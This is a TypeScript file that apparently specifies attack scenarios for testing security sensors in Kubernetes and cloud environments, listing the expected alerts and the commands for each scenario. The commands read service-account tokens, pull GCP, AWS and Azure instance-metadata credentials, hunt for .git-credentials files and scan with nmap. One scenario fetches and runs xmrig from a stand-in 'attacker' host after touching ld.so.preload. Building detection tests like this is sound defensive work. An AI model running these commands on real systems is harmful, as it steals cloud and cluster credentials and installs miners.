// What the scenarios must do, taken from the official tool's documentation and commands: the measure for the files of playbooks/.

export interface Scenario {
  name: string;
  /** Ids in the catalogue, as the documentation lists the alerts. */
  alerts: string[];
  /** Commands as the official tool writes them, in its order. Ours may add arguments after these, never between. */
  commands: string[];
}

const curl = 'curl -s';
const metadata = 'http://169.254.169.254';

export const scenarios: Scenario[] = [
  {
    name: 'reconnaissance',
    alerts: ['web-shell-activity', 'suspicious-service-account-operation', 'network-scanning-tool'],
    commands: [
      'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      `${curl} -k -A "kubectl" -H "Authorization: Bearer $kubetoken" -H "Content-Type: application/json" -X POST ` +
        '-d "$body" "https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"',
      `grep -Po '"status":\\{\\K.*?(?=\\})'`,
      'nmap -Pn --open kubernetes.default/24 -p 443',
    ],
  },
  {
    name: 'lateral-movement',
    alerts: ['web-shell-activity', 'cloud-metadata-access'],
    commands: [
      `${curl} -H "Metadata-Flavor: Google" "${metadata}/computeMetadata/v1/instance/service-accounts/default/token"`,
      `grep -Po '"access_token":"\\K.*?(?=")'`,
      // The tokens' first characters; only their effect on a sensor is wanted.
      'head -c 30',
      `${curl}f -X PUT "${metadata}/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"`,
      `${curl} "${metadata}/latest/meta-data/iam/security-credentials" -H "X-aws-ec2-metadata-token: $session"`,
      `${curl} "${metadata}/latest/meta-data/iam/security-credentials/$role" -H "X-aws-ec2-metadata-token: $session"`,
      `grep -Po '"Token" : "\\K.*?(?=")'`,
      `${curl} -H Metadata:true --noproxy "*" "${metadata}/metadata/instance/compute/subscriptionId?api-version=2017-08-01&format=text"`,
      `${curl} -H Metadata:true --noproxy "*" "${metadata}/metadata/instance/compute/resourceGroupName?api-version=2017-08-01&format=text"`,
      `${curl} -H Metadata:true --noproxy "*" "${metadata}/metadata/instance/compute/location?api-version=2017-08-01&format=text"`,
      'grep -Po "[^_]+(?=_$location)"',
      `${curl}f -H Metadata:true "$address"`,
      `${curl}f -H Metadata:true "$address&msi_res_id=$identity"`,
    ],
  },
  {
    name: 'secrets-gathering',
    alerts: ['web-shell-activity', 'sensitive-files-access', 'secret-reconnaissance'],
    commands: [
      "find / -path '*/.git-credentials'",
      'cat "$file"',
      'cat $file | head -c 30',
      `${curl}f -H "Metadata-Flavor: Google" "${metadata}/computeMetadata/v1/" -o /dev/null`,
      `${curl}f -X PUT "${metadata}/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600" -o /dev/null`,
      'set | grep $name=',
    ],
  },
  {
    name: 'crypto-mining',
    alerts: ['web-shell-activity', 'cpu-optimization', 'ld-so-preload-access', 'crypto-miner-download', 'drift-binary'],
    commands: [
      '/sbin/modprobe msr allow_writes=on > /dev/null 2>&1',
      'touch /etc/ld.so.preload',
      'curl -sO http://attacker/xmrig',
      'chmod +x xmrig',
      './xmrig',
    ],
  },
  { name: 'web-shell', alerts: ['web-shell-activity'], commands: ['whoami'] },
  {
    name: 'threat-intelligence-domain',
    alerts: ['threat-intelligence-domain'],
    commands: ['curl -s -m 10 -X POST "http://mdc-eicar.alerts.security.azure.com?SendingData" -o /dev/null'],
  },
];
